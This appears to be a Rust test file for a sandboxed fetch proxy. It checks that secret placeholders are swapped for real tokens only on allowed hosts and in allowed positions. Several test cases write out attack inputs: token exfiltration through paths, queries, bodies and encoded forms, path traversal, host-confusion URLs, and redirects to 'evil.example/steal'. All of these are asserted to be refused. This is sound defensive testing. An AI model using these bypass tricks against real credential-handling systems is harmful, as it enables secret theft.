//! The fetch form against a real local HTTPS upstream, from the attacker's side: what the
//! code's `fetch()` hands the host (the sandbox shim's JSON) is decided by the policy, the
//! placeholders of bound secrets become the secret only where the binding allows, and every
//! misuse is refused with nothing sent, no secret in the outcome or the call log.

use std::collections::BTreeMap;
use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use oauth3_crds::{CallDecision, PermitSpec};
use oauth3_sandbox_runner::fetch::{FetchConfig, ScopedFetch};
use oauth3_sandbox_runner::host::{CallOutcome, CapabilityCall, CapabilityHost, FetchResponse};
use oauth3_sandbox_runner::policy::Policy;
use oauth3_sandbox_runner::redact::Redactor;
use oauth3_test_support::Upstream;
use serde_json::{Value, json};
use zeroize::Zeroizing;

const SECRET: &str = "ghp-test-51c0ffee";
const KEY: &str = "key-test-9a8b7c";

fn permit(up: &Upstream) -> PermitSpec {
    let port = up.addr.port();
    let origin = up.origin();
    serde_json::from_value(json!({
        "description": "fetch form tests",
        "secrets": ["GITHUB_TOKEN", "API_KEY"],
        "capabilities": [{
            "name": "github",
            "hosts": [format!("127.0.0.1:{port}"), format!("localhost:{port}")],
            "methods": ["GET", "POST"],
            "paths": ["/v1/**"],
            "secretBindings": [
                {"secret": "GITHUB_TOKEN", "hosts": [format!("127.0.0.1:{port}")]},
                {"secret": "API_KEY", "hosts": [format!("127.0.0.1:{port}")], "in": ["query", "body"]}
            ]
        }, {
            "name": "scoped",
            "baseUrl": format!("{origin}/v1"),
            "paths": ["/**"],
            "methods": ["GET"],
            "query": {"allow": ["q"]},
            "auth": {"header": "Authorization", "value": "Bearer {GITHUB_TOKEN}"}
        }]
    }))
    .expect("valid permit")
}

fn host_for(up: &Upstream) -> ScopedFetch {
    let policy = Policy::compile(&permit(up)).expect("policy compiles");
    let secrets = BTreeMap::from([
        ("GITHUB_TOKEN".to_owned(), Zeroizing::new(SECRET.to_owned())),
        ("API_KEY".to_owned(), Zeroizing::new(KEY.to_owned())),
    ]);
    let config = FetchConfig {
        extra_root_certs_pem: vec![up.ca_pem.clone()],
        ..FetchConfig::default()
    };
    let redactor = Arc::new(Redactor::for_secrets(&secrets));
    ScopedFetch::new(policy, secrets, redactor, config)
        .expect("fetch builds")
        .with_args(&json!({"owner": "octo", "n": 3, "nested": {"x": 1}}))
}

fn placeholder(host: &ScopedFetch, secret: &str) -> String {
    host.environment()
        .get(secret)
        .cloned()
        .unwrap_or_else(|| panic!("no placeholder for {secret}"))
}

async fn fetch(host: &ScopedFetch, request: Value) -> CallOutcome {
    host.fetch(request).await
}

fn response(outcome: &CallOutcome) -> (FetchResponse, String) {
    match outcome {
        CallOutcome::Value(v) => {
            let r: FetchResponse = serde_json::from_value(v.clone()).expect("a FetchResponse");
            let body = String::from_utf8(STANDARD.decode(&r.body_base64).expect("base64"))
                .expect("utf-8 body");
            (r, body)
        }
        CallOutcome::Error(e) => panic!("expected a response, got the error {e}"),
    }
}

/// No secret in the outcome or the call log.
fn assert_no_secret(outcome: &CallOutcome, host: &ScopedFetch) {
    let shown = format!("{outcome:?} {:?}", host.calls());
    for s in [SECRET, KEY, "51c0ffee", "9a8b7c"] {
        assert!(!shown.contains(s), "{s} leaked: {shown}");
    }
}

/// Refused with `reason_has` in the message, recorded as a denial, nothing sent.
async fn assert_refused(request: Value, reason_has: &str) {
    let up = Upstream::start().await;
    let host = host_for(&up);
    let request = fill(&host, &up, request);
    let outcome = fetch(&host, request.clone()).await;
    match &outcome {
        CallOutcome::Error(reason) => assert!(
            reason.contains(reason_has),
            "{request}: {reason:?} should contain {reason_has:?}"
        ),
        CallOutcome::Value(v) => panic!("{request}: expected a refusal, got {v}"),
    }
    up.assert_nothing_received(&request.to_string());
    let calls = host.calls();
    assert_eq!(calls.len(), 1, "one record: {calls:?}");
    assert_eq!(calls[0].decision, CallDecision::Denied);
    assert_no_secret(&outcome, &host);
}

/// Replaces `$TOKEN` and `$KEY` in every string of `request` by the run's placeholders, and
/// `$ORIGIN` / `$PORT` by the upstream's.
fn fill(host: &ScopedFetch, up: &Upstream, request: Value) -> Value {
    let text = request
        .to_string()
        .replace("$ORIGIN", &up.origin())
        .replace("$PORT", &up.addr.port().to_string())
        .replace("$TOKEN", &placeholder(host, "GITHUB_TOKEN"))
        .replace("$KEY", &placeholder(host, "API_KEY"));
    serde_json::from_str(&text).expect("json")
}

fn get(url: String, headers: Value) -> Value {
    json!({"url": url, "method": "GET", "headers": headers})
}

#[tokio::test]
async fn the_environment_has_placeholders_for_bound_secrets_and_args_as_strings() {
    let up = Upstream::start().await;
    let host = host_for(&up);
    let env = host.environment();
    let token = &env["GITHUB_TOKEN"];
    assert!(token.starts_with("OAUTH3_SECRET_GITHUB_TOKEN_"), "{token}");
    assert_eq!(token.len(), "OAUTH3_SECRET_GITHUB_TOKEN_".len() + 24);
    assert!(!token.contains(SECRET));
    assert_eq!(env["owner"], "octo");
    assert_eq!(env["n"], "3");
    assert!(
        !env.contains_key("nested"),
        "objects are not environment strings"
    );
    let again = host_for(&up);
    assert_ne!(again.environment()["GITHUB_TOKEN"], *token, "new every run");
    assert!(host.has_fetch());
    assert_eq!(
        host.capabilities(),
        ["scoped"],
        "a fetch capability is no function"
    );
}

#[tokio::test]
async fn a_bound_placeholder_becomes_the_secret_in_the_authorization_header_only() {
    let up = Upstream::start().await;
    let host = host_for(&up);
    let token = placeholder(&host, "GITHUB_TOKEN");
    let outcome = fetch(
        &host,
        get(
            format!("{}/v1/echo-auth", up.origin()),
            json!([
                ["authorization", format!("Bearer {token}")],
                ["accept", "application/json"]
            ]),
        ),
    )
    .await;
    let (r, body) = response(&outcome);
    assert_eq!(r.status, 200);
    assert!(
        r.headers
            .iter()
            .any(|(k, v)| k == "content-type" && v == "application/json")
    );
    let got = up.assert_received(1, "one request");
    assert_eq!(
        got[0].header_values("authorization"),
        [format!("Bearer {SECRET}")]
    );
    assert_eq!(got[0].header_values("accept"), ["application/json"]);
    // The upstream echoed the credential; the code sees it redacted.
    assert!(body.contains("[REDACTED]"), "{body}");
    assert_no_secret(&outcome, &host);
    assert_eq!(host.calls()[0].capability, "github");
    assert_eq!(host.calls()[0].decision, CallDecision::Allowed);
}

#[tokio::test]
async fn basic_credentials_built_with_btoa_are_recognised_and_substituted() {
    let up = Upstream::start().await;
    let host = host_for(&up);
    let token = placeholder(&host, "GITHUB_TOKEN");
    let basic = STANDARD.encode(format!("octo:{token}"));
    let outcome = fetch(
        &host,
        get(
            format!("{}/v1/echo-auth", up.origin()),
            json!([["authorization", format!("Basic {basic}")]]),
        ),
    )
    .await;
    assert_eq!(response(&outcome).0.status, 200);
    let got = up.assert_received(1, "one request");
    assert_eq!(
        got[0].header_values("authorization"),
        [format!(
            "Basic {}",
            STANDARD.encode(format!("octo:{SECRET}"))
        )]
    );
    assert_no_secret(&outcome, &host);
}

#[tokio::test]
async fn a_binding_with_query_and_body_substitutes_there_encoded_for_the_place() {
    let up = Upstream::start().await;
    let host = host_for(&up);
    let key = placeholder(&host, "API_KEY");
    let outcome = fetch(
        &host,
        json!({"url": format!("{}/v1/echo-auth?key={key}&x=1", up.origin()), "method": "POST",
               "headers": [["content-type", "application/json"]],
               "body": {"text": format!("{{\"key\": \"{key}\"}}")}}),
    )
    .await;
    let (_, body) = response(&outcome);
    let got = up.assert_received(1, "one request");
    assert_eq!(
        got[0].path_and_query,
        format!("/v1/echo-auth?key={KEY}&x=1")
    );
    assert_eq!(
        String::from_utf8_lossy(&got[0].body),
        format!("{{\"key\": \"{KEY}\"}}")
    );
    assert!(body.contains("[REDACTED]") && !body.contains(KEY), "{body}");
    assert_no_secret(&outcome, &host);
}

#[tokio::test]
async fn a_non_2xx_answer_is_a_response_not_an_error() {
    let up = Upstream::start().await;
    let host = host_for(&up);
    let outcome = fetch(&host, get(format!("{}/v1/missing", up.origin()), json!([]))).await;
    let (r, body) = response(&outcome);
    assert_eq!((r.status, r.status_text.as_str()), (404, "Not Found"));
    assert_eq!(body, "no such thing here");
    assert!(!r.redirected);
}

#[tokio::test]
async fn placeholders_where_no_binding_allows_them_are_refused_before_anything_is_sent() {
    for (request, why) in [
        // A host the capability lists, but the binding does not.
        (
            get(
                "https://localhost:$PORT/v1/x".to_owned(),
                json!([["authorization", "Bearer $TOKEN"]]),
            ),
            "may not be sent to localhost",
        ),
        (
            get(
                "https://LOCALHOST:$PORT/v1/x".to_owned(),
                json!([["authorization", "Bearer $TOKEN"]]),
            ),
            "may not be sent to localhost",
        ),
        // The URL path and the query (the binding says header).
        (get("$ORIGIN/v1/$TOKEN".to_owned(), json!([])), "URL path"),
        (
            get("$ORIGIN/v1/x?t=$TOKEN".to_owned(), json!([])),
            "in the query",
        ),
        // The body.
        (
            json!({"url": "$ORIGIN/v1/x".to_owned(), "method": "POST", "body": {"text": "{\"t\": \"$TOKEN\"}"}}),
            "in the body",
        ),
        // Another header than the binding's.
        (
            get("$ORIGIN/v1/x".to_owned(), json!([["x-debug", "$TOKEN"]])),
            "header x-debug",
        ),
        // A header name.
        (
            get("$ORIGIN/v1/x".to_owned(), json!([["x-$TOKEN", "1"]])),
            "header name",
        ),
        // API_KEY may go in query and body, never a header.
        (
            get(
                "$ORIGIN/v1/x".to_owned(),
                json!([["authorization", "Bearer $KEY"]]),
            ),
            "API_KEY may not be sent",
        ),
    ] {
        assert_refused(request, why).await;
    }
}

#[tokio::test]
async fn transformed_placeholders_are_refused_before_anything_is_sent() {
    let cases: [fn(&str) -> String; 8] = [
        |t| format!("Bearer {}", t.chars().rev().collect::<String>()),
        |t| format!("Token {}", STANDARD.encode(t)),
        |t| {
            format!(
                "Basic {}",
                STANDARD.encode(format!("u:{}", t.to_ascii_lowercase()))
            )
        },
        |t| format!("Bearer {}", hex::encode(t)),
        |t| format!("Bearer {}", t.to_ascii_lowercase()),
        |t| format!("Bearer {}", &t[..t.len() - 3]),
        |t| format!("Bearer {}", &t[14..]),
        |t| format!("Bearer {}", t.replace('_', "%5F")),
    ];
    for transform in cases {
        let up = Upstream::start().await;
        let host = host_for(&up);
        let t = placeholder(&host, "GITHUB_TOKEN");
        let request = get(
            format!("{}/v1/echo-auth", up.origin()),
            json!([["authorization", transform(&t)]]),
        );
        let outcome = fetch(&host, request.clone()).await;
        match &outcome {
            CallOutcome::Error(reason) => {
                assert!(reason.contains("another form"), "{request}: {reason}")
            }
            CallOutcome::Value(v) => panic!("{request}: expected a refusal, got {v}"),
        }
        up.assert_nothing_received(&request.to_string());
        assert_no_secret(&outcome, &host);
    }
}

#[tokio::test]
async fn urls_written_to_mislead_are_refused() {
    for (url, why) in [
        ("$ORIGIN/v1/a/../../admin".to_owned(), "segment"),
        ("$ORIGIN/v1/%2e%2e/admin".to_owned(), "segment"),
        ("$ORIGIN/v1/a%2fb".to_owned(), "slash"),
        ("$ORIGIN\\@evil.example/v1/x".to_owned(), "backslash"),
        (
            "https://localhost.:$PORT/v1/x".to_owned(),
            "ends with a dot",
        ),
        (
            "https://user:pw@127.0.0.1:$PORT/v1/x".to_owned(),
            "userinfo",
        ),
        ("https://[::1]:$PORT/v1/x".to_owned(), "not in the hosts"),
        ("https://evil.example/v1/x".to_owned(), "not in the hosts"),
        ("$ORIGIN/v2/x".to_owned(), "path /v2/x not allowed"),
        ("/v1/x".to_owned(), "absolute"),
    ] {
        assert_refused(get(url, json!([["authorization", "Bearer $TOKEN"]])), why).await;
    }
    assert_refused(
        json!({"url": "$ORIGIN/v1/x".to_owned(), "method": "DELETE"}),
        "method DELETE not allowed for github",
    )
    .await;
    assert_refused(
        json!({"url": "$ORIGIN/v1/x".to_owned(), "method": "GET", "headers": [["x-http-method-override", "DELETE"]]}),
        "set by the runner only",
    )
    .await;
}

#[tokio::test]
async fn a_decimal_ip_is_the_host_it_names() {
    let up = Upstream::start().await;
    let host = host_for(&up);
    let token = placeholder(&host, "GITHUB_TOKEN");
    let outcome = fetch(
        &host,
        get(
            format!("https://2130706433:{}/v1/echo-auth", up.addr.port()),
            json!([["authorization", format!("Bearer {token}")]]),
        ),
    )
    .await;
    assert_eq!(response(&outcome).0.status, 200);
    assert_eq!(host.calls()[0].url, format!("{}/v1/echo-auth", up.origin()));
}

#[tokio::test]
async fn redirects_are_decided_again_and_never_carry_a_secret_to_an_unbound_host() {
    let up = Upstream::start().await;
    let port = up.addr.port();
    let origin = up.origin();
    let host = host_for(&up);
    let token = placeholder(&host, "GITHUB_TOKEN");
    let auth = json!([["authorization", format!("Bearer {token}")]]);
    let to = |target: &str| {
        format!(
            "{origin}/v1/redirect?to={}",
            url::form_urlencoded::byte_serialize(target.as_bytes()).collect::<String>()
        )
    };

    // Same origin, allowed path: followed, the secret substituted again.
    let outcome = fetch(&host, get(to("/v1/echo-auth"), auth.clone())).await;
    let (r, _) = response(&outcome);
    assert!(r.redirected && r.status == 200, "{r:?}");
    assert_eq!(r.url, format!("{origin}/v1/echo-auth"));
    let got = up.assert_received(2, "the redirect and its target");
    assert_eq!(
        got[1].header_values("authorization"),
        [format!("Bearer {SECRET}")]
    );

    // Same origin, a path the capability does not allow: refused at the hop.
    let outcome = fetch(&host, get(to("/admin"), auth.clone())).await;
    assert!(
        matches!(&outcome, CallOutcome::Error(e) if e.contains("path /admin not allowed")),
        "{outcome:?}"
    );
    up.assert_received(3, "only the redirect itself");

    // Cross origin to a listed host the binding does not name: refused before the hop.
    let outcome = fetch(
        &host,
        get(
            to(&format!("https://localhost:{port}/v1/echo-auth")),
            auth.clone(),
        ),
    )
    .await;
    assert!(
        matches!(&outcome, CallOutcome::Error(e) if e.contains("may not be sent to localhost")),
        "{outcome:?}"
    );
    up.assert_received(4, "only the redirect itself");

    // Cross origin to a host no capability lists.
    let outcome = fetch(&host, get(to("https://evil.example/steal"), auth.clone())).await;
    assert!(
        matches!(&outcome, CallOutcome::Error(e) if e.contains("not in the hosts")),
        "{outcome:?}"
    );
    up.assert_received(5, "only the redirect itself");

    // manual: the 3xx is the response; nothing followed.
    let mut manual = get(to("https://evil.example/steal"), auth.clone());
    manual["redirect"] = json!("manual");
    let (r, _) = response(&fetch(&host, manual).await);
    assert_eq!(r.status, 302);
    assert!(
        r.headers
            .iter()
            .any(|(k, v)| k == "location" && v == "https://evil.example/steal")
    );
    up.assert_received(6, "only the redirect itself");

    // error: rejected.
    let mut error = get(to("/v1/echo-auth"), auth);
    error["redirect"] = json!("error");
    let outcome = fetch(&host, error).await;
    assert!(
        matches!(&outcome, CallOutcome::Error(e) if e.contains("init.redirect is 'error'")),
        "{outcome:?}"
    );
    up.assert_received(7, "only the redirect itself");
    for r in up.requests() {
        if r.path_and_query != "/v1/echo-auth" {
            continue;
        }
        assert_eq!(
            r.header_values("authorization"),
            [format!("Bearer {SECRET}")]
        );
    }
    assert_no_secret(&CallOutcome::Value(Value::Null), &host);
}

#[tokio::test]
async fn a_capability_call_carrying_a_placeholder_is_refused() {
    let up = Upstream::start().await;
    let host = host_for(&up);
    let token = placeholder(&host, "GITHUB_TOKEN");
    let outcome = host
        .call(CapabilityCall {
            capability: "scoped".to_owned(),
            args: vec![json!("GET"), json!("/x"), json!({"query": {"q": token}})],
        })
        .await;
    assert!(
        matches!(&outcome, CallOutcome::Error(e) if e.contains("placeholder of GITHUB_TOKEN")),
        "{outcome:?}"
    );
    up.assert_nothing_received("a placeholder in a capability call");
}
